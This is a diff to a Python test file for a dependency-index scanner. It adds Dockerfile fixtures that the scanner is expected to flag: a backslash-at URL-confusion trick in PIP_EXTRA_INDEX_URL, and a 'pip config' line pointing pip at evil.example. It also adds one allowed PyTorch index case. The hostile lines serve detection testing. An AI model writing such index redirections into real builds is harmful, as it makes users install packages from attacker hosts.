@@ -152,6 +152,30 @@ CASES = [
         "poetry.lock",
         2,
     ),
+    # A Dockerfile stage's index settings (ENV / pip config) are indexes too: the t1 trick
+    # through ENV PIP_EXTRA_INDEX_URL, and an ordinary untrusted host through pip config.
+    (
+        "dockerfile-env-backslash",
+        {
+            "Dockerfile": "FROM python:3.11\n"
+            "ENV PIP_EXTRA_INDEX_URL=http://127.0.0.1:18765\\@pypi.org/simple\n"
+            "RUN pip install numpy==1.26.4\n"
+        },
+        "backslash",
+        "Dockerfile",
+        2,
+    ),
+    (
+        "dockerfile-pip-config",
+        {
+            "Dockerfile": "FROM python:3.11\n"
+            "RUN pip config set global.index-url https://evil.example/simple\n"
+            "RUN pip install numpy==1.26.4\n"
+        },
+        "evil.example, which is not allowed",
+        "Dockerfile",
+        2,
+    ),
     (
         "pylock-wheel",
         {"pylock.toml": PYLOCK},
@@ -204,6 +228,12 @@ def test_a_lock_host_gives_one_finding_per_file() -> None:
         # Paths and whole-variable placeholders are not network URLs.
         {"requirements.txt": "--find-links ./wheels\nnumpy==1.26.4\n"},
         {"requirements.txt": "--extra-index-url ${PIP_EXTRA_INDEX_URL}\nnumpy==1.26.4\n"},
+        # A Dockerfile stage's setting on a default host.
+        {
+            "Dockerfile": "FROM python:3.11\n"
+            "ENV PIP_EXTRA_INDEX_URL=https://download.pytorch.org/whl/cu121\n"
+            "RUN pip install numpy==1.26.4\n"
+        },
     ],
 )
 def test_plain_allowed_urls_give_no_finding(head: dict[str, str]) -> None:
